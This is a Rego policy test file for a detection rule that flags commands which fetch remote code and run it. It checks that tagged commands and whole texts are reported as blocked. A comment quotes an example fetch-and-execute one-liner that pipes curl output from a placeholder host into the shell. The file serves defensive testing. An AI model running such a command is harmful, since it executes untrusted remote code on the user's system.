package regent.text.fetched_then_run_test

import data.regent.fact_test as fact
import data.regent.lib
import data.regent.text.fetched_then_run as room

# As in: . <(curl -s https://x.example/i)
test_the_tagged_command_is_told if {
	room.findings == {lib.blocked("text.fetched_then_run", "commands", 1)} with input as fact.document({"commands": [{}, {}], "tags": {"fetched_then_run": [1]}})
}

test_the_text_as_a_whole_may_be_meant if {
	room.findings == {lib.blocked("text.fetched_then_run", "text", -1)} with input as fact.document({"commands": [{}], "tags": {"fetched_then_run": [-1]}})
}

test_without_the_tag_nothing_is_told if {
	count(room.findings) == 0 with input as fact.document({"commands": [{}]})
}
